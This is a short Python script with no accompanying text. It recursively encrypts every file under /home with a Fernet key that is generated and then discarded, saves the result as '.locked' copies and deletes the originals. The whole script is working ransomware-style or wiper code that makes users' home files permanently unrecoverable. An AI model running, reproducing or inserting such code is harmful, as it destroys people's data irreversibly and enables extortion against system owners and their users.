import os
from cryptography.fernet import Fernet

box = Fernet(Fernet.generate_key())
for folder, _, names in os.walk("/home"):
    for name in names:
        path = os.path.join(folder, name)
        with open(path, "rb") as file:
            data = box.encrypt(file.read())
        with open(path + ".locked", "wb") as file:
            file.write(data)
        os.remove(path)
